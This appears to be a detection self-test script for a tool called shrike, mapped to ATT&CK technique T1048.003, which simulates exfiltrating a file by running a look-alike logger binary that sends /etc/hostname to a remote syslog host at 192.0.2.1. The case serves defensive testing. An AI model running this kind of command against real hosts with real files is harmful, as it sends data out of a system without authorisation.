#!/bin/sh
# rule: File sent by a tool
# technique: T1048.003
# case: a file goes to another machine's log, by a program that only bears logger's name
# needs: nothing

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
. "${0%/*}/../harmless.inc"
outside
harmless logger && ./logger -n 192.0.2.1 -P 514 -d -f /etc/hostname
